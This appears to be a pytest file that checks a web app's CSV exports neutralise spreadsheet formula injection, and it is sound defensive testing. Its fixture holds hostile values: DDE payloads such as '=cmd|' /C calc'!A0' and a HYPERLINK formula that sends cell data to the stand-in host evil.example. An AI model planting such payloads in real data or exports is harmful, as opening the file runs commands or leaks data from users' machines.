"""No CSV the app writes carries a formula a spreadsheet would run (issue 12, OWASP "CSV Injection").

The attack replayed: a researcher imports prompts (or a crowd platform supplies ids) whose text starts with
``=``, ``+``, ``-`` or ``@``; a colleague opens the exported CSV in a spreadsheet and the cell runs, e.g.
``=cmd|' /C calc'!A0`` or ``=HYPERLINK(...)`` that leaks data. Every text cell that a spreadsheet would
treat as a formula must reach the file with a leading single quote and inside double quotes; numbers,
negative ones included, must stay numbers.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from app.models import Clip, Prompt, StudyModel
from tests.app.services.results_factory import cast_vote
from tests.factories import make_evaluator, make_pairs, make_study, make_user

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "correct horse battery"
PAYLOADS = {
    "model": "=cmd|' /C calc'!A0",
    "prompt": "+HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "theme": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture
def hostile_study(session):
    study = make_study(session, models=(PAYLOADS["model"], "plain"), n_prompts=2)
    prompts = session.scalars(select(Prompt).where(Prompt.study_id == study.id).order_by(Prompt.id)).all()
    prompts[0].external_id, prompts[0].theme, prompts[0].text = PAYLOADS["prompt"], PAYLOADS["theme"], PAYLOADS["text"]
    prompts[1].external_id, prompts[1].theme, prompts[1].text = "p-ok", PAYLOADS["tab"], PAYLOADS["cr"]
    session.flush()
    pairs = make_pairs(session, study)
    for clip in session.scalars(select(Clip).where(Clip.study_id == study.id)):
        clip.guidance_scale = -0.5  # a negative number must stay a number
        clip.error = "=2+2"
    evaluator = make_evaluator(session, study, external_id="=cmd|' /C calc'!A0")
    for pair in pairs:
        cast_vote(session, pair=pair, evaluator=evaluator, choices={c.key: "left" for c in study.criteria},
                  a_left=True)
    admin = make_user(session, role="admin", password=PASSWORD)
    session.commit()
    return study, admin


def _download(client: TestClient, admin, url: str) -> bytes:
    assert client.post("/api/v1/login", json={"email": admin.email, "password": PASSWORD}).status_code == 200
    r = client.get(url)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text[:300]
    return r.content


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def _runnable(cell: str) -> bool:
    """Would a spreadsheet run this cell? Formula starts do, unless the text is just a number."""
    return cell.startswith(FORMULA_START) and not _NUMBER.fullmatch(cell)


@pytest.mark.parametrize("export", ["votes.csv", "clips.csv"])
def test_no_exported_cell_is_a_formula(client, hostile_study, export):
    study, admin = hostile_study
    body = _download(client, admin, f"/studies/{study.id}/export/{export}")
    rows = _cells(body)
    header, data = rows[0], rows[1:]
    assert data, "the export is empty: the test would not see a formula"
    runnable = [(header[i], cell) for row in data for i, cell in enumerate(row) if _runnable(cell)]
    assert not runnable, f"cells a spreadsheet would run: {runnable[:5]}"
    cells = {cell for row in data for cell in row}
    # Neutralised, not dropped: the value is all there behind the quote, so nothing is lost.
    expected = {"votes.csv": ("model", "prompt", "theme"), "clips.csv": ("model", "prompt", "theme", "text")}
    for key in expected[export]:
        assert "'" + PAYLOADS[key] in cells, key
    # OWASP: the field is quoted too (a quote inside is doubled), so no reader splits it or drops the quote.
    assert ('"' + "'" + PAYLOADS["model"].replace('"', '""') + '"').encode() in body


def test_numbers_stay_numbers(client, hostile_study):
    study, admin = hostile_study
    clips = pd.read_csv(io.BytesIO(_download(client, admin, f"/studies/{study.id}/export/clips.csv")))
    assert clips["guidance_scale"].dtype.kind == "f" and (clips["guidance_scale"] == -0.5).all()
    assert clips["seed"].dtype.kind == "i" and clips["error"].eq("'=2+2").all()
    votes = pd.read_csv(io.BytesIO(_download(client, admin, f"/studies/{study.id}/export/votes.csv")))
    assert votes["time_spent_ms"].dtype.kind == "i" and votes["vote_id"].dtype.kind == "i"


def test_the_evaluators_external_id_never_reaches_a_csv(client, hostile_study):
    """The evaluator column is a pseudonym; the platform id (here a formula) is not exported at all."""
    study, admin = hostile_study
    for export in ("votes.csv", "clips.csv"):
        assert b"cmd|' /C calc'!A0\n" not in _download(client, admin, f"/studies/{study.id}/export/{export}")
        assert not any(cell.startswith("=cmd") for row in _cells(
            _download(client, admin, f"/studies/{study.id}/export/{export}")) for cell in row)


def test_the_model_names_are_read_back_unchanged_after_the_quote(session, hostile_study):
    """What a script reading the CSV gets: the original value behind one leading quote."""
    from app.services.exports import clips_manifest

    study, _ = hostile_study
    frame = pd.read_csv(io.BytesIO(clips_manifest(session, study=study, fmt="csv").body))
    names = set(session.scalars(select(StudyModel.name).where(StudyModel.study_id == study.id)))
    assert {n[1:] if n.startswith("'") else n for n in frame["model"]} == names


def _csv_writers(path: Path) -> list[str]:
    """Calls that write CSV in a source file: DataFrame.to_csv, csv.writer, csv.DictWriter."""
    tree = ast.parse(path.read_text())
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and \
                node.func.attr in ("to_csv", "writer", "DictWriter"):
            found.append(f"{path.relative_to(ROOT)}:{node.lineno} {node.func.attr}")
    return found


def test_every_csv_the_app_writes_goes_through_the_neutralising_writer():
    """A new export that writes CSV some other way would reopen the hole: only exports.to_safe_csv may."""
    writers = [w for folder in ("app", "worker") for path in sorted((ROOT / folder).rglob("*.py"))
               for w in _csv_writers(path)]
    assert any("app/services/exports.py" in w for w in writers)  # the scan sees the one allowed writer
    safe = (ROOT / "app/services/exports.py").read_text()
    allowed_line = next(i for i, line in enumerate(safe.splitlines(), 1)
                        if "neutralise_formulas(frame).to_csv(" in line)
    others = [w for w in writers if w != f"app/services/exports.py:{allowed_line} to_csv"]
    assert not others, f"CSV written without app.services.exports.to_safe_csv: {others}"
